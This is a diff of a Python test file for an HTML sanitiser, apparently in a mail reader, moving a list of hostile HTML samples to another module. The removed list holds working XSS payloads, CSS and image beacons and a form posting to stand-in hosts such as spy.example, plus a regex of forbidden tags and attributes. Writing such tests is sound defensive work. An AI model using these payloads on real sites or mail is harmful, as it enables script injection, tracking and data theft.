@@ -177,44 +177,6 @@ def test_text_is_decoded_whatever_it_claims(raw: bytes, charset: str, text: str)
     assert reading.decode_text(raw, charset) == text
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://spy.example/a.gif'>",
-    "<img srcset='https://spy.example/a.gif 2x'>",
-    "<img src='//spy.example/a'>",
-    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
-    "<img src='data:text/html;base64,PHN2Zz4='>",
-    "<img src='cid:missing'>",
-    "<svg onload=alert(1)><image href='https://spy.example'/></svg>",
-    "<style>@import 'https://spy.example/x.css'; body{background:url(https://spy.example)}</style>",
-    "<style>a[href^=x]{background:u\\72l(https://spy.example)}</style>",
-    "<p style='background:url(https://spy.example/a)'>x</p>",
-    "<p style='background-image:url(https://spy.example/a)'>x</p>",
-    "<p style='list-style-type:url(https://spy.example/a)'>x</p>",
-    "<p style='color:\\75rl(https://spy.example)'>x</p>",
-    "<p style='width:expression(alert(1))'>x</p>",
-    "<p style='font-family:x;} @import \"https://spy.example\"'>x</p>",
-    "<p style='position:fixed;top:0;left:0;z-index:9'>x</p>",
-    "<table background='https://spy.example/a'><tr><td background='https://spy.example'>x</table>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' java\nscript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='https://phish.example' target=_top>x</a>",
-    "<form action='https://spy.example'><input name=p><button>x</button></form>",
-    "<iframe src='https://spy.example'></iframe>",
-    "<object data='https://spy.example'></object><embed src='https://spy.example'>",
-    "<link rel=stylesheet href='https://spy.example'><meta http-equiv=refresh content='0;url=https://spy.example'>",
-    "<base href='https://spy.example'><video src='https://spy.example' poster='https://spy.example'></video>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--<img src='--><img src=x onerror=alert(1)//'>",
-    "<p id=x class=y onclick=alert(1) onmouseover='alert(1)'>x</p>",
-    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
-    "<\0script>alert(1)</script>",
-    "<q cite='https://spy.example'>x</q><blockquote cite='https://spy.example'>y</blockquote>",
-    "<audio autoplay src=https://spy.example><source src=https://spy.example><track src=https://spy.example>",
-]
 FORBIDDEN = re.compile(
     r"<\s*(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio|source|noscript)"
     r"|<[^>]*\s(on\w+|srcset|href|background|action|cite|target|id|class)\s*="
@@ -224,7 +186,7 @@ FORBIDDEN = re.compile(
 
 
 @pytest.mark.behaviour("P7")
-@pytest.mark.parametrize("html", HOSTILE)
+@pytest.mark.parametrize("html", letters.HOSTILE)
 def test_hostile_html_comes_out_harmless(html: str) -> None:
     safe = display.sanitise(html)
     shown = re.sub(r'(title|alt)="[^"]*"', "", safe.html)
